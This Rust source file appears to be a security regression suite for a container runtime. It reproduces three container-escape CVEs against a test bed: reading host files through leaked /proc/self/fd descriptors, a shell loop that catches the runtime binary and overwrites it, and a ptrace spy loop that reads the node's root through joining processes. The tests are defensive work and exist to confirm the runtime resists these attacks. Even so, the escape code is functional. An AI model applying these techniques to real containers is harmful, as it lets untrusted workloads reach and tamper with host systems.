//! Descriptors and binaries of ours that a container could get hold of.

use super::{escaped, layer, output};
use crate::bed::{Bed, children, shell};
use cri::*;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// CVE-2024-21626: the working directory, or the program, is below a directory of the node that was left open.
pub async fn leaked_directories(bed: &mut Bed) {
    let secret = bed.dir.join("secret");
    std::fs::write(&secret, "of the node").unwrap();
    std::fs::copy("/usr/bin/busybox", bed.dir.join("busybox")).unwrap();
    let sandbox = bed.sandbox().await;
    let (up, dir) = ("../../../../../../../..", bed.dir.display());
    for fd in 3..40 {
        let mut inside = shell(&format!("cat {up}{}", secret.display()));
        inside.working_dir = format!("/proc/self/fd/{fd}");
        let program = format!("/proc/self/fd/{fd}/{up}{dir}/busybox");
        let run = ContainerConfig { command: vec![program, "echo".into(), "of the node".into()], ..shell("") };
        for config in [inside, run] {
            if output(bed, &sandbox, config).await.is_ok_and(|text| text.contains("of the node")) {
                escaped!("descriptor {fd} leads to the node's files");
            }
        }
    }
    // What says no is the working directory, not the program in it.
    for path in ["/proc/self/fd/3", "/proc/1/fd/0", "/proc/self/cwd/../../.."] {
        let config = ContainerConfig { working_dir: path.into(), ..shell("pwd") };
        let seen = output(bed, &sandbox, config).await;
        assert!(seen.is_err() || seen.as_ref().is_ok_and(|cwd| cwd == "/"), "{path}: {seen:?}");
    }
}

/// A loop that waits for a process that runs something else than busybox, and opens its binary as descriptor 3.
const CATCH: &str = "while :; do for p in /proc/[0-9]*; do case \"$(readlink $p/exe)\" in ''|*busybox) ;; \
                     *) exec 3<$p/exe && kill -9 ${p#/proc/} && break 2;; esac; done; done; echo caught";

/// CVE-2019-5736: an exec of `#!/proc/self/exe` runs our binary inside; who opens it there writes to it later.
pub async fn our_binary(bed: &mut Bed) {
    let binary = own_shim(bed).await;
    give_libraries(bed);
    let sandbox = bed.sandbox().await;
    let mut config =
        shell(&format!("mkfifo /tmp/stall; echo ready; {CATCH}; until echo evil > /proc/self/fd/3; do :; done"));
    // What loads our binary inside waits for ever at this, so that there is time to catch it.
    config.envs = vec![("LD_PRELOAD".into(), "/tmp/stall".into())];
    let id = bed.run(&sandbox, config).await;
    crate::life::wait_for_log(bed, "stdout F ready").await;
    let exec = bed.service().exec_sync(&id, vec!["/bin/loop".into()], Duration::from_secs(5)).await;
    let caught = std::fs::read_to_string(bed.dir.join("logs/c/0.log")).unwrap().contains("caught");
    assert!(caught, "the image's loader ran our binary: {exec:?}");
    // It is busy while the shim lives. The kernel may kill the shim when memory is short.
    bed.runtime = None;
    let shim = children()[0].split(' ').next().unwrap().parse().unwrap();
    rustix::process::kill_process(rustix::process::Pid::from_raw(shim).unwrap(), rustix::process::Signal::KILL)
        .unwrap();
    let evil = || std::fs::read(&binary).unwrap().starts_with(b"evil");
    for _ in (0..30).take_while(|_| !evil()) {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let won = evil();
    rustix::process::waitpid(rustix::process::Pid::from_raw(shim), rustix::process::WaitOptions::empty()).unwrap();
    bed.open().await;
    if won {
        escaped!("the container wrote our binary");
    }
}

/// Opens the runtime anew with a copy of the binary, which nothing else runs.
async fn own_shim(bed: &mut Bed) -> PathBuf {
    bed.runtime.take().unwrap().close().unwrap();
    let copy = bed.dir.join("binary");
    std::fs::copy("/proc/self/exe", &copy).unwrap();
    bed.shim_exe = copy.clone();
    bed.open().await;
    copy
}

/// Puts what our binary is linked to into the image, as an attacker would.
fn give_libraries(bed: &Bed) {
    let maps = std::fs::read_to_string("/proc/self/maps").unwrap();
    let libraries: BTreeSet<_> = maps.split_whitespace().filter(|word| word.contains(".so")).map(Path::new).collect();
    assert!(!libraries.is_empty(), "{maps}");
    // Where loaders are, and where they look.
    for dir in ["lib", "lib64"] {
        std::fs::create_dir_all(layer(bed, dir)).unwrap();
        for library in &libraries {
            std::fs::copy(library, layer(bed, dir).join(library.file_name().unwrap())).unwrap();
        }
    }
}

/// CVE-2016-9962: a process that is about to join is still ours. With SYS_PTRACE those inside see into it: they must
/// not find the node's root there. Both ways in: an exec, and a container that joins the pod's PID namespace.
pub async fn joining_processes(bed: &mut Bed) {
    let secret = bed.dir.join("secret");
    std::fs::write(&secret, "of the node\n").unwrap();
    let mut config = bed.sandbox_config();
    config.namespaces.pid = NamespaceMode::Pod;
    let sandbox = bed.service().run_pod_sandbox(config).await.unwrap();
    let spy = format!(
        "while :; do for p in /proc/[0-9]*; do for d in root cwd/../../../../../../../..; do \
         read x < $p/$d{} && echo SEEN $x && sleep 100; done; done; done 2> /dev/null",
        secret.display()
    );
    let in_pod = |script: &str, log: &str| {
        let mut config = shell(script);
        (config.security_context.namespaces.pid, config.log_path) = (NamespaceMode::Pod, log.into());
        config
    };
    let mut watching = in_pod(&spy, "spy.log");
    watching.security_context.add_capabilities = vec!["SYS_PTRACE".into()];
    let id = bed.run(&sandbox, watching).await;
    let seen = || std::fs::read_to_string(bed.dir.join("logs/spy.log")).unwrap().contains("SEEN of the node");
    for round in (0..100).take_while(|_| !seen()) {
        bed.service().exec_sync(&id, vec!["true".into()], Duration::from_secs(5)).await.unwrap();
        if round % 10 == 0 {
            output(bed, &sandbox, in_pod("true", "other.log")).await.unwrap();
        }
    }
    if seen() {
        escaped!("the container read a file of the node through a process that was joining it");
    }
}
